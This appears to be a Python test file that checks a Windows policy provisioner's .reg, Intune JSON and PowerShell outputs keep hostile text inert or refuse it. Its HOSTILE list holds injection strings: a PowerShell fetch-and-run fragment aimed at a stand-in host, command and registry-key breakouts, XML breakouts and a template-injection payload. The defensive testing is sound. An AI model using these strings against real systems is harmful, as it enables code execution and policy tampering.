"""Hostile text through every Windows format: it stays in its place, or nothing is made (T5, T6)."""

from __future__ import annotations

import json
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from provisioner.errors import ArtifactError
from provisioner.render import serialize
from provisioner.render.registry import UNFIT
from tests.render.samples import TEAM, hardened
from tests.render.windows_samples import body, files, script_data

HOSTILE = [
    "'; iwr evil | iex; '",
    "\u2018; calc; \u2019",
    '"$(calc)`n%PATH%',
    "'@\n'@; calc; @'",
    '"\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Evil]\r\n"x"="y',
    '\\"',
    "\\",
    '"/><data id="SettingsJson" value="{}',
    "</policyDefinitions><!--",
    "&quot;&#10;&lt;",
    "&#xF000;",
    "{{7*7}}{% import os %}",
    "é日\U0001f600",
    "]]>",
    "  two  spaces  ",
]
unhurried = settings(deadline=None, max_examples=40)  # machines that run tests are shared
anything = st.sampled_from(HOSTILE) | st.text(max_size=60)


def unescaped(text: str) -> str:
    """Read a string of a .reg file character by character, as Windows does."""
    read, rest = "", iter(text)
    for character in rest:
        read += next(rest) if character == "\\" else character
    return read


def from_reg(data: bytes) -> dict[tuple[str, str], str]:
    found: dict[tuple[str, str], str] = {}
    key = ""
    for line in data.decode("utf-16").split("\r\n")[1:]:
        if line.startswith("["):
            key = line[1:-1].removeprefix("HKEY_LOCAL_MACHINE\\")
        elif line:
            name, text = line.split("=", 1)
            found[key, name.strip('"')] = unescaped(text[1:-1])
    return found


def from_graph(data: bytes) -> dict[tuple[str, str], str]:
    found: dict[tuple[str, str], str] = {}
    for setting in json.loads(data)["omaSettings"]:
        if "/ADMXInstall/" in setting["omaUri"]:
            continue
        enabled, value = ElementTree.fromstring(f"<x>{setting['value']}</x>")
        assert (enabled.tag, value.tag, value.attrib.keys()) == ("enabled", "data", {"id", "value"})
        name = setting["omaUri"].rsplit("/", 1)[1]
        code = name == "ManagedSettings"
        key = r"SOFTWARE\Policies\ClaudeCode" if code else r"SOFTWARE\Policies\Claude"
        found[key, "Settings" if code else name] = value.get("value", "")
    return found


def from_script(data: bytes) -> dict[tuple[str, str], str]:
    return {(value["key"], value["name"]): value["text"] for value in script_data(data)["values"]}


@unhurried
@given(text=anything, nested=anything)
@example(text="plain", nested="two\nlines")
@pytest.mark.covers("T5", "T6", "T31")
def test_text_stays_in_its_place_or_is_refused(text: str, nested: str) -> None:
    of = hardened(
        {"companyAnnouncements": [text, nested]},
        {"organizationInstructions": text, "banner": {"text": nested}},
    )
    if UNFIT.search(text) or not text or serialize.LOSSY.search(text + nested):
        with pytest.raises(ArtifactError):
            files(of, remediation_key=True)
        return
    made = files(of, remediation_key=True)
    values = from_reg(made["AIGateway-engineering-prod.reg"])
    assert values.keys() == EXPECTED
    assert values == from_graph(made["graph-windows10CustomConfiguration.json"])
    written = from_script(made["remediate.ps1"])
    header = (r"SOFTWARE\Policies\Claude", "inferenceCustomHeaders")
    code = (r"SOFTWARE\Policies\ClaudeCode", "Settings")
    assert {k: v for k, v in written.items() if k not in (header, code)} == {
        k: v for k, v in values.items() if k not in (header, code)
    }
    for read in (values, written):
        settings: Any = json.loads(read[code])
        assert settings["companyAnnouncements"] == [text, nested]
        assert read[r"SOFTWARE\Policies\Claude", "organizationInstructions"] == text
        assert json.loads(read[r"SOFTWARE\Policies\Claude", "banner"]) == {"text": nested}
    for script in ("detect.ps1", "remediate.ps1"):
        assert body(made[script]) == BODIES[script]


PLAIN = files(hardened({}, {"organizationInstructions": "x", "banner": {"text": "x"}}), remediation_key=True)
EXPECTED = from_reg(PLAIN["AIGateway-engineering-prod.reg"]).keys()
BODIES = {name: body(PLAIN[name]) for name in ("detect.ps1", "remediate.ps1")}


@pytest.mark.covers("T6")
def test_the_bodies_are_the_same_for_every_assignment_and_for_either_consent() -> None:
    for consent in (False, True):
        made = files(TEAM, remediation_key=consent)
        assert {name: body(made[name]) for name in BODIES} == BODIES
